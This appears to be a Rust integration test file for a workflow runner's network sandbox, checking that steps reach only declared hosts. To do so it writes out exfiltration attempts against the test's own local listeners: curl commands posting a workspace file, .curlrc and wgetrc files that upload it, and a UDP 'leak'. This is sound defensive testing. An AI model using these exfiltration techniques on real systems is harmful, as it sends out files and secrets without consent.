//! #57 through the `transcript` binary: a step reaches only the hosts its workflow names.
//! Truth comes from outside the runner: listeners the test owns record every request that
//! reached them, and "nothing arrived" is proved by a sentinel the test sends after the run
//! (the first thing the listener got must be it). Each bound is paired with a run that does
//! reach the same listener (`network: all`, a declaration), so the tests can fail.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;
use std::process::Output;

use common::network::{Datagrams, Listener, refused};
use common::sandbox::{Layout, step_completed, step_started};
use common::{bin, describe, text};

/// What the attacks try to send out.
const PAYLOAD: &str = "payload-of-the-workspace-7c1e";

/// A layout whose workspace holds `payload.txt`.
fn layout() -> Layout {
    let l = Layout::new();
    std::fs::write(l.ws.join("payload.txt"), PAYLOAD).unwrap();
    l
}

/// The step's stdout as `step.completed` recorded it.
fn stdout_of(l: &Layout, step: &str) -> String {
    let done = step_completed(&l.storage, step);
    done["payload"]["result"]["stdout"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// Runs free text into `curl`, as the script `sh` reads (`sh -s`, step `code`) and as the URL
/// an author's script fetches (step `url`), each sending `payload.txt` through the proxy the
/// variables name, then directly.
fn free_text_into_curl(l: &Layout, target: &Listener, more: &[&str]) -> Output {
    std::fs::write(
        l.ws.join("fetch.sh"),
        "curl -sS --max-time 10 -d @payload.txt \"$URL/proxied\"\n\
         curl -sS --max-time 10 --noproxy '*' -d @payload.txt \"$URL/direct\"\necho done\n",
    )
    .unwrap();
    let wf = "name: a\ninputs: [{name: v}, {name: url}]\nsteps:\n  - name: code\n    type: command\n    command: [sh, -s, --, x]\n    stdin: \"{{ inputs.v }}\"\n  - name: url\n    type: command\n    command: [sh, fetch.sh]\n    env: { URL: \"{{ inputs.url }}\" }\n";
    let script = format!(
        "curl -sS --max-time 10 -d @payload.txt {u}/proxied; \
         curl -sS --max-time 10 --noproxy '*' -d @payload.txt {u}/direct; echo done",
        u = target.url()
    );
    let (v, url) = (format!("v={script}"), format!("url={}", target.url()));
    let mut args = vec!["--input", &v, "--input", &url];
    args.extend_from_slice(more);
    l.run(wf, &args)
}

/// Free text given to `curl` reaches nothing (through the proxy or directly); the proxy's
/// refusal is in each step's `step.completed`. On the host's network the same run does.
#[test]
fn a_free_text_input_running_curl_reaches_nothing_and_the_refusal_is_recorded() {
    let l = layout();
    let target = Listener::answering("LEAKED-BODY");
    let out = free_text_into_curl(&l, &target, &[]);
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    for step in ["code", "url"] {
        let stdout = stdout_of(&l, step);
        assert!(stdout.ends_with("done\n"), "{step} ran: {stdout}\n{why}");
        assert!(!stdout.contains("LEAKED-BODY"), "{stdout}\n{why}");
        let done = step_completed(&l.storage, step);
        // The direct attempt fails inside the namespace (nothing listens there): only the
        // proxy's refusal can be recorded.
        assert_eq!(refused(&done), vec![target.dest()], "{done}");
        assert_eq!(done["payload"]["network_refused"]["count"], 1, "{done}");
    }
    target.assert_untouched(&why);

    // The control: on the host's network each step's two requests arrive.
    let l = layout();
    let out = free_text_into_curl(&l, &target, &["--network", "all"]);
    assert!(out.status.success(), "{}", describe(&out));
    let hits: Vec<String> = (0..4).map(|_| target.next_hit()).collect();
    assert_eq!(
        hits,
        [
            "POST /proxied HTTP/1.1",
            "POST /direct HTTP/1.1",
            "POST /proxied HTTP/1.1",
            "POST /direct HTTP/1.1"
        ]
    );
    assert!(stdout_of(&l, "url").contains("LEAKED-BODY"));
}

/// The four configuration files that send `payload.txt` to the listener: `wget --config`
/// (through the proxy), `WGETRC` (through the listener named as wget's own proxy) and
/// `CURL_HOME` (through the proxy; directly). Returns the workflow and its inputs.
fn config_attacks(l: &Layout, target: &Listener) -> (String, Vec<String>) {
    let curlrc = |dir: &str, extra: &str| {
        std::fs::create_dir_all(l.ws.join(dir)).unwrap();
        let rc = format!(
            "url = \"{}/curlrc\"\nupload-file = \"payload.txt\"\nmax-time = 10\nsilent\n{extra}",
            target.url()
        );
        std::fs::write(l.ws.join(dir).join(".curlrc"), rc).unwrap();
    };
    curlrc("cfg1", "");
    curlrc("cfg2", "noproxy = \"*\"\n");
    let wgetrc1 = "post_file = payload.txt\ntries = 1\ntimeout = 10\n".to_owned();
    let wgetrc2 = format!("{wgetrc1}use_proxy = on\nhttp_proxy = {}/\n", target.url());
    // `--config FILE` and `WGETRC=FILE` (a `--config=FILE` cannot be read confined: the
    // private file is granted only as a whole argv element).
    let wget = |n: u8, url: &str| {
        let (arg, env) = if n == 1 {
            (
                format!("--config, \"{{{{ inputs.w{n} | file }}}}\", "),
                String::new(),
            )
        } else {
            (
                String::new(),
                format!("    env: {{ WGETRC: \"{{{{ inputs.w{n} | file }}}}\" }}\n"),
            )
        };
        format!(
            "  - name: wget{n}\n    type: command\n    command: [wget, -q, -O, \"-\", {arg}\"{url}\"]\n{env}    continue_on_error: true\n"
        )
    };
    let curl = |n: u8| {
        format!(
            "  - name: curl{n}\n    type: command\n    command: [curl]\n    env: {{ CURL_HOME: \"{{{{ inputs.d{n} }}}}\" }}\n    continue_on_error: true\n"
        )
    };
    let wf = format!(
        "name: b\ninputs: [{{name: w1}}, {{name: w2}}, {{name: d1, type: path}}, {{name: d2, type: path}}]\nsteps:\n{}{}{}{}",
        wget(1, &format!("{}/wgetrc", target.url())),
        wget(2, "http://wgetrc.invalid/"),
        curl(1),
        curl(2)
    );
    let inputs = vec![
        format!("w1={wgetrc1}"),
        format!("w2={wgetrc2}"),
        "d1=cfg1".to_owned(),
        "d2=cfg2".to_owned(),
    ];
    (wf, inputs)
}

/// `--input` for each of `inputs`, then `more`.
fn with_inputs<'a>(inputs: &'a [String], more: &[&'a str]) -> Vec<&'a str> {
    let mut args: Vec<&str> = inputs
        .iter()
        .flat_map(|i| ["--input", i.as_str()])
        .collect();
    args.extend_from_slice(more);
    args
}

/// A configuration file chosen by data (`wget --config`, `WGETRC`, `CURL_HOME`) that sends a
/// file to a listener reaches nothing; on the host's network the same files do reach it.
#[test]
fn a_wget_config_and_a_curl_home_from_data_reach_nothing() {
    let l = layout();
    let target = Listener::answering("LEAKED-BODY");
    let (wf, inputs) = config_attacks(&l, &target);
    let out = l.run(&wf, &with_inputs(&inputs, &[]));
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    target.assert_untouched(&why);
    // Through the proxy the attempt is refused and recorded; directly it cannot leave.
    for step in ["wget1", "curl1"] {
        let done = step_completed(&l.storage, step);
        assert_eq!(refused(&done), vec![target.dest()], "{step}: {done}");
    }
    for step in ["wget2", "curl2"] {
        let done = step_completed(&l.storage, step);
        assert!(refused(&done).is_empty(), "{step}: {done}");
        assert!(!done["payload"]["error"].is_null(), "{step} failed: {done}");
    }

    // The control: the same files, on the host's network, do send the payload.
    let l = layout();
    let (wf, inputs) = config_attacks(&l, &target);
    let out = l.run(&wf, &with_inputs(&inputs, &["--network", "all"]));
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    let hits: Vec<String> = (0..4).map(|_| target.next_hit()).collect();
    for want in [
        "POST /wgetrc HTTP/1.1",
        "POST http://wgetrc.invalid/ HTTP/1.1",
        "PUT /curlrc HTTP/1.1",
    ] {
        assert!(hits.iter().any(|h| h == want), "{want}: {hits:?}\n{why}");
    }
    assert_eq!(
        hits.iter().filter(|h| *h == "PUT /curlrc HTTP/1.1").count(),
        2
    );
}

/// A git repository served over git's dumb HTTP protocol under `root/repo.git`, with one
/// commit holding `README.md`; its commit id.
fn bare_repo(root: &Path) -> String {
    let git = |dir: &Path, args: &[&str]| {
        let out = std::process::Command::new("git")
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", describe(&out));
        text(&out.stdout).trim().to_owned()
    };
    let src = root.join("src");
    std::fs::create_dir_all(&src).unwrap();
    git(&src, &["init", "-q", "-b", "main"]);
    std::fs::write(src.join("README.md"), "cloned over dumb http\n").unwrap();
    git(&src, &["add", "README.md"]);
    git(&src, &["commit", "-q", "-m", "first"]);
    let served = root.join("served");
    std::fs::create_dir_all(&served).unwrap();
    git(&served, &["init", "-q", "--bare", "-b", "main", "repo.git"]);
    git(&src, &["push", "-q", "../served/repo.git", "main"]);
    git(&served.join("repo.git"), &["update-server-info"]);
    git(&src, &["rev-parse", "HEAD"])
}

/// A declared `127.0.0.1:PORT` is reached by `curl` (through the proxy and directly) and by
/// `git ls-remote` / `git clone` over HTTP; another port in the same step is refused.
#[test]
fn a_declared_port_works_for_curl_and_git_while_another_is_refused() {
    let l = layout();
    let root = tempfile::tempdir().unwrap();
    let commit = bare_repo(root.path());
    std::fs::write(root.path().join("served/hello.txt"), "hello through\n").unwrap();
    let open = Listener::files(root.path().join("served"));
    let closed = Listener::answering("LEAKED-BODY");
    std::fs::write(
        l.ws.join("fetch.sh"),
        format!(
            "set -e\ncurl -fsS --max-time 10 {o}/hello.txt\n\
             curl -fsS --max-time 10 --noproxy '*' {o}/hello.txt\n\
             git ls-remote {o}/repo.git\ngit clone -q {o}/repo.git clone\n\
             if curl -fsS --max-time 10 {c}/no; then echo reached; fi\necho end\n",
            o = open.url(),
            c = closed.url()
        ),
    )
    .unwrap();
    let wf = format!(
        "name: c\nsteps:\n  - name: s\n    type: command\n    command: [sh, fetch.sh]\n    network: [\"{}\"]\n",
        open.dest()
    );
    let out = l.run(&wf, &[]);
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    let stdout = stdout_of(&l, "s");
    assert_eq!(stdout.matches("hello through").count(), 2, "{stdout}");
    assert!(
        stdout.contains(&format!("{commit}\trefs/heads/main")),
        "ls-remote: {stdout}"
    );
    assert!(
        stdout.ends_with("end\n") && !stdout.contains("reached"),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(l.ws.join("clone/README.md")).unwrap(),
        "cloned over dumb http\n"
    );
    // What the served side saw: both curls, then git's requests.
    let hits = open.hits_so_far();
    assert_eq!(hits[..2], ["GET /hello.txt HTTP/1.1"; 2], "{hits:?}");
    assert!(
        hits.iter()
            .any(|h| h.starts_with("GET /repo.git/info/refs?service=git-upload-pack ")),
        "{hits:?}"
    );
    assert!(
        hits.iter().any(|h| h.starts_with("GET /repo.git/objects/")),
        "{hits:?}"
    );
    closed.assert_untouched(&why);
    let done = step_completed(&l.storage, "s");
    assert_eq!(refused(&done), vec![closed.dest()], "{done}");
}

/// `network: all` on a step, and `--network all` on the run: the host's network (an undeclared
/// listener is reached), written in `step.started` and warned.
#[test]
fn network_all_reaches_an_undeclared_listener_and_says_so() {
    let target = Listener::answering("hello");
    let step = |net: &str| {
        format!(
            "  - name: s\n    type: command\n    command: [curl, -fsS, --max-time, \"10\", \"{}/all\"]\n{net}",
            target.url()
        )
    };
    let l = layout();
    let out = l.run(
        &format!("name: d\nsteps:\n{}", step("    network: all\n")),
        &[],
    );
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    assert_eq!(target.next_hit(), "GET /all HTTP/1.1", "{why}");
    assert_eq!(stdout_of(&l, "s"), "hello");
    assert_eq!(step_started(&l.storage, "s")["payload"]["network"], "all");
    assert!(
        text(&out.stderr).contains("network: all: step(s) s use the host's network"),
        "{why}"
    );

    let l = layout();
    let out = l.run(
        &format!("name: d\nsteps:\n{}", step("")),
        &["--network", "all"],
    );
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    assert_eq!(target.next_hit(), "GET /all HTTP/1.1", "{why}");
    assert_eq!(step_started(&l.storage, "s")["payload"]["network"], "all");
    assert!(
        text(&out.stderr).contains("warning: --network all"),
        "{why}"
    );

    // Declared (the default): the same step reaches nothing and step.started says nothing.
    let l = layout();
    let out = l.run(&format!("name: d\nsteps:\n{}", step("")), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(
        step_started(&l.storage, "s")["payload"]
            .get("network")
            .is_none()
    );
    target.assert_untouched(&describe(&out));
}

/// `defaults: { network: … }` applies to the steps without their own; a step's own
/// `network:` replaces it; a template is refused at load.
#[test]
fn defaults_apply_a_steps_own_network_overrides_and_a_template_is_refused() {
    let a = Listener::answering("from-a");
    let b = Listener::answering("from-b");
    let l = layout();
    let curl = |url: String| format!("[sh, -c, \"curl -sS --max-time 10 {url}; echo\"]");
    let wf = format!(
        "name: e\ndefaults:\n  network: [\"{a}\"]\nsteps:\n  - name: inherits\n    type: command\n    command: {ia}\n  - name: own\n    type: command\n    network: [\"{b}\"]\n    command: {oa}\n  - name: own_b\n    type: command\n    network: [\"{b}\"]\n    command: {ob}\n",
        a = a.dest(),
        b = b.dest(),
        ia = curl(format!("{}/inherits", a.url())),
        oa = curl(format!("{}/own", a.url())),
        ob = curl(format!("{}/own_b", b.url())),
    );
    let out = l.run(&wf, &[]);
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    assert_eq!(a.next_hit(), "GET /inherits HTTP/1.1", "{why}");
    assert_eq!(stdout_of(&l, "inherits").trim(), "from-a");
    assert_eq!(b.next_hit(), "GET /own_b HTTP/1.1", "{why}");
    assert_eq!(stdout_of(&l, "own_b").trim(), "from-b");
    a.assert_untouched(&why); // `own` did not reach a
    let own = step_completed(&l.storage, "own");
    assert_eq!(refused(&own), vec![a.dest()], "{own}");
    for step in ["inherits", "own_b"] {
        assert!(refused(&step_completed(&l.storage, step)).is_empty());
    }

    for (what, wf) in [
        (
            "a step's",
            "name: t\ninputs: [{name: h}]\nsteps:\n  - name: s\n    type: command\n    command: [true]\n    network: [\"{{ inputs.h }}:443\"]\n",
        ),
        (
            "the default",
            "name: t\ninputs: [{name: h}]\ndefaults:\n  network: [\"{{ inputs.h }}:443\"]\nsteps:\n  - name: s\n    type: command\n    command: [true]\n",
        ),
    ] {
        let l = layout();
        let out = l.run(wf, &["--input", "h=example.com"]);
        let err = text(&out.stderr);
        // An invalid workflow is exit 3 (`exit.rs`), before anything starts.
        assert_eq!(out.status.code(), Some(3), "{what}: {}", describe(&out));
        assert!(
            err.contains("is a template: destinations are literal host:port"),
            "{what}: {err}"
        );
        assert!(
            common::sandbox::events(&l.storage).is_empty(),
            "{what}: no run started"
        );
    }
}

/// A datagram to a local port goes nowhere, the port declared or not.
#[test]
fn udp_to_a_local_port_is_not_delivered() {
    let sock = Datagrams::bind();
    let send = format!(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         try:\n    s.sendto(b'leak', ('127.0.0.1', {}))\n    print('sent')\n\
         except OSError as e:\n    print('failed', e.errno)\n",
        sock.port
    );
    let l = layout();
    std::fs::write(l.ws.join("send.py"), &send).unwrap();
    let wf = format!(
        "name: f\nsteps:\n  - name: undeclared\n    type: command\n    command: [python3, send.py]\n  - name: declared\n    type: command\n    command: [python3, send.py]\n    network: [\"127.0.0.1:{}\"]\n",
        sock.port
    );
    let out = l.run(&wf, &[]);
    let why = describe(&out);
    assert!(out.status.success(), "{why}");
    for step in ["undeclared", "declared"] {
        let said = stdout_of(&l, step);
        assert!(
            said == "sent\n" || said.starts_with("failed"),
            "{step}: {said}"
        );
    }
    sock.assert_untouched(&why);

    // The control: on the host's network the same datagram arrives.
    let l = layout();
    std::fs::write(l.ws.join("send.py"), &send).unwrap();
    let out = l.run(&wf, &["--network", "all"]);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(sock.next(), "leak");
}

/// `transcript show` names the refused destinations under their step, in a child run too.
#[test]
fn show_names_the_refused_destinations() {
    let l = layout();
    let script = "curl -sS --max-time 10 http://127.0.0.1:9/; curl -sS --max-time 10 https://example.com/; true";
    let child = format!(
        "name: child\nsteps:\n  - name: inner\n    type: command\n    command: [sh, -c, \"{script}\"]\n"
    );
    std::fs::write(l.ws.parent().unwrap().join("child.yaml"), child).unwrap();
    let wf = format!(
        "name: show\nsteps:\n  - name: s\n    type: command\n    command: [sh, -c, \"{script}\"]\n  - name: quiet\n    type: command\n    command: [\"true\"]\n  - name: c\n    type: call_workflow\n    workflow: child.yaml\n"
    );
    let out = l.run(&wf, &["--deterministic"]);
    assert!(out.status.success(), "{}", describe(&out));
    let shown = bin()
        .args(["show", "latest", "--color", "never", "--storage"])
        .arg(&l.storage)
        .output()
        .unwrap();
    assert!(shown.status.success(), "{}", describe(&shown));
    let shown = text(&shown.stdout);
    let line = "refused network: 2 destination(s): 127.0.0.1:9, example.com:443 (declare them under network:)";
    assert_eq!(shown.matches(line).count(), 2, "{shown}");
    insta::assert_snapshot!("show_refused", shown);
}
